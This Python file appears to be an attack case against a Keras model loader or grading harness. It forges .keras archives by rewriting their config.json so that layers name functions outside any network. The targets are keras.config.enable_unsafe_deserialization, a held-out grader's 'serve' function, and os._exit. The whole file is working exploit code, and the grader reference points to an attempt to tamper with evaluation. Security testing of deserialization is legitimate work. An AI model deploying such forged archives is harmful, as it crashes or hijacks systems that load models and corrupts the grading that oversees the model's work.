"""Returns archives whose configuration names functions and modules that are no part of a network."""

# /// attack
# ran = ["network", "total"]
# control = "none: Keras itself takes only functions and classes of its own"
# ///
# %% before total
import json
import zipfile



def forged(model, change):
    class Forged(type(model)):
        def save(self, path, **kwargs):
            model.save(path)
            with zipfile.ZipFile(path) as archive:
                members = {name: archive.read(name) for name in archive.namelist()}
            members["config.json"] = json.dumps(change(json.loads(members["config.json"]))).encode()
            with zipfile.ZipFile(path, "w") as archive:
                for name, data in members.items():
                    archive.writestr(name, data)

    return Forged(model.layers)


# %% network
def network(inputs, units):
    model = keras.Sequential([keras.Input((inputs,)), layers.Dense(units), layers.Dense(1)])

    def change(config):
        config["config"]["layers"][1]["config"]["activation"] = {
            "module": "keras.config",
            "class_name": "function",
            "config": "enable_unsafe_deserialization",
            "registered_name": "enable_unsafe_deserialization",
        }
        config["config"]["layers"][2]["config"]["kernel_initializer"] = {
            "module": "heldout.grading.checker",
            "class_name": "serve",
            "config": {},
            "registered_name": None,
        }
        return config

    ran("network")
    return forged(model, change)


# %% total
def total(numbers):
    def change(config):
        return {"module": "os", "class_name": "function", "config": "_exit", "registered_name": "_exit"}

    ran("total")
    return forged(keras.Sequential([keras.Input((1,)), layers.Dense(1)]), change)
